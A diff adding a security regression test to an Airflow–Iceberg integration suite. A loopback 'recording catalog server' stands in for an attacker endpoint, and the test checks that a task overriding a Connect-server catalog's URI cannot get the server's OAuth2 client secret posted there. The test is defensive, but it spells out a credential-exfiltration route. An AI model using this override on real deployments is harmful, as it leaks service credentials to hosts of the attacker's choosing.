@@ -15,6 +15,7 @@ import time
 
 import pytest
 
+from airflow_iceberg.exceptions import IcebergJobError, InvalidCatalogConfigError, InvalidSpecError
 from tests.integration.airflow_runner import REPO, spark_connection
 from tests.integration.catalog_connections import hadoop_connection
 from tests.integration.event_logs import event_log_text
@@ -146,3 +147,84 @@ def test_a_sigkilled_worker_leaves_the_catalog_secrets_in_a_file_on_disk(tmp_pat
     finally:
         for path in temp.glob("airflow-iceberg-*"):
             subprocess.run(["rm", "-rf", str(path)], check=False)
+
+
+# --------------------------------------------------------------------------- Spark Connect
+
+
+class _RecordingCatalogServer:
+    """An HTTP endpoint on loopback that records every request body (a stand-in for anyone's)."""
+
+    def __init__(self) -> None:
+        import http.server
+        import threading
+
+        bodies = self.bodies = []
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            def _record(self) -> None:
+                length = int(self.headers.get("Content-Length") or 0)
+                bodies.append(f"{self.command} {self.path} {self.headers}{self.rfile.read(length).decode()}")
+                self.send_response(401)
+                self.send_header("Content-Type", "application/json")
+                self.end_headers()
+                self.wfile.write(b'{"error": "invalid_client"}')
+
+            do_GET = do_POST = _record
+
+            def log_message(self, *args: object) -> None:
+                pass
+
+        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
+
+    @property
+    def uri(self) -> str:
+        return f"http://127.0.0.1:{self.server.server_address[1]}/catalog"
+
+    def __enter__(self) -> _RecordingCatalogServer:
+        self.thread.start()
+        return self
+
+    def __exit__(self, *exc: object) -> None:
+        self.server.shutdown()
+        self.server.server_close()
+
+
+def test_any_task_can_send_the_connect_servers_catalog_secret_to_an_endpoint_of_its_choice(
+    spark_connect_server, monkeypatch
+):
+    """Breaks "Per-task storage credentials are the task's own" and the Connect secrets design
+    ("a catalog's secrets belong to the server ... every session inherits them").
+
+    docs/spark-connect.md tells a deployment to put a catalog's secrets in the Connect server's
+    SparkConf (``spark.sql.catalog.rest.credential``) and every task then sets the catalog's other
+    settings on its own session. Nothing ties the two together: a task whose connection names the
+    same catalog with another ``uri`` (any DAG author's connection, ``connect_server_credentials``
+    on) gets a session whose catalog combines the server's OAuth2 client secret with that URI,
+    and Iceberg's REST client posts ``client_secret=<it>`` there. The secret the server was
+    trusted with reaches an endpoint of the task's choosing; the operator neither refuses an
+    override of a server-defined catalog nor warns.
+    """
+    from airflow_iceberg.operators import IcebergAppendOperator
+    from tests.servers.connect_catalog_secrets import REST_SECRET_KEY
+
+    with _RecordingCatalogServer() as elsewhere:
+        connection = {
+            "conn_type": "iceberg_catalog",
+            "host": elsewhere.uri,
+            "extra": {"catalog_name": "rest", "catalog_type": "rest", "connect_server_credentials": True},
+        }
+        monkeypatch.setenv("AIRFLOW_CONN_SPARK_DEFAULT", json.dumps(spark_connect_server.connection()))
+        monkeypatch.setenv("AIRFLOW_CONN_ICEBERG_CATALOG_DEFAULT", json.dumps(connection))
+        append = IcebergAppendOperator(task_id="append", table="db.t", source_query="SELECT 1 AS id")
+        try:
+            execute(append)
+        except (InvalidCatalogConfigError, InvalidSpecError):  # refused before a session: it held
+            assert not elsewhere.bodies
+            return
+        except IcebergJobError:
+            pass  # the session's catalog could not authenticate "elsewhere"
+        received = "\n".join(elsewhere.bodies)
+    assert received, "the session's catalog must have called the URI the task gave it"
+    assert REST_SECRET_KEY not in received
